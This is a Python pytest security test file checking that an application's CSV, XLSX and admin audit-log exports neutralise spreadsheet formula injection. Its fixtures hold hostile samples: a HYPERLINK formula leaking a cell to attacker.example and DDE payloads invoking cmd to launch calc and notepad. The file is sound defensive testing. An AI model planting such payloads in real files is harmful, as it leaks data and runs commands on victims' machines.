"""Finding 3: spreadsheet formula injection. Every export (API CSV, Review CSV and XLSX, the admin audit CSV)
writes text that could start a formula with a leading apostrophe, and XLSX cells as strings, never formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from playwright.sync_api import expect

from services.spreadsheet import FORMULA_STARTS, csv_text, safe_cell, xlsx_bytes
from tests.security.conftest import ADMIN_PASSWORD, ROOT
from tests.security.flows import api_key, call, open_export, open_review, sign_in, submit_and_wait

pytestmark = pytest.mark.slow

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A2,"portfolio")'
RESUME = f"""Jane Doe
Experience
- {LEAK}
- @SUM(1+1)*cmd|' /C calc'!A0 grew revenue
- Built data pipelines in Python and SQL for the finance team
"""
JD = (ROOT / "samples" / "jd.txt").read_text()
REF = "+cmd|' /C notepad'!A1"


def _live_formula(cell: object) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", ["=1+2", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+2"])
def test_every_formula_start_is_neutralised(text) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell("Built =things") == "Built =things" and safe_cell(7) == 7
    rows = list(csv.reader(io.StringIO(csv_text(["a"], [[text]]))))
    assert rows[1] == ["'" + text]


def test_xlsx_cells_are_strings_never_formulas() -> None:
    data = xlsx_bytes(["text", "n"], [[LEAK, 3], {"text": "=1+2", "n": None}])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws["A2"].value == "'" + LEAK


@pytest.mark.e2e
def test_api_csv_review_exports_and_audit_csv_hold_no_live_formula(secure_app, page) -> None:
    key = api_key(secure_app)
    job_id = submit_and_wait(secure_app, key, [{"resume": RESUME, "jd": JD, "ref": REF}])

    status, body = call(secure_app, key, "GET", f"/api/bulk/results/{job_id}?format=csv")
    assert status == 200
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert not [c for row in rows for c in row if _live_formula(c)]
    assert any(c == "'" + LEAK for row in rows for c in row) and any(c == "'" + REF for row in rows for c in row)

    sign_in(page, secure_app)
    open_review(page, REF)
    open_export(page)
    with page.expect_download() as info:
        page.get_by_role("button", name="Export CSV").click()
    exported = list(csv.reader(io.StringIO(info.value.path().read_text())))
    assert not [c for row in exported for c in row if _live_formula(c)]
    assert any(c == "'" + LEAK for row in exported for c in row)
    with page.expect_download() as info:
        page.get_by_role("button", name="Export XLSX").click()
    data = info.value.path().read_bytes()
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    assert "'" + LEAK in cells and not [c for c in cells if _live_formula(c)]


@pytest.mark.e2e
def test_admin_audit_csv_neutralises_a_typed_username(secure_app, browser) -> None:
    hostile = '=hyperlink("http://attacker.example","x")'
    context = browser.new_context(accept_downloads=True)
    try:
        page = context.new_page()
        page.goto(secure_app["base"])
        page.get_by_role("textbox", name="Username").fill(hostile)  # audited as the actor of a failed sign-in
        page.get_by_role("textbox", name="Password").fill("wrong-password-1")
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_text(re.compile("Wrong username or password|Too many"))).to_be_visible()
        sign_in(page, secure_app, "admin", ADMIN_PASSWORD)
        page.get_by_role("link", name="Admin").click()
        page.get_by_role("tab", name="Audit log").click()
        with page.expect_download() as info:
            page.get_by_role("button", name="Export audit log (CSV)").click()
        rows = list(csv.reader(io.StringIO(info.value.path().read_text())))
        assert any("'" + hostile in c for row in rows for c in row), rows[:5]
        assert not [c for row in rows for c in row if _live_formula(c)]
    finally:
        context.close()
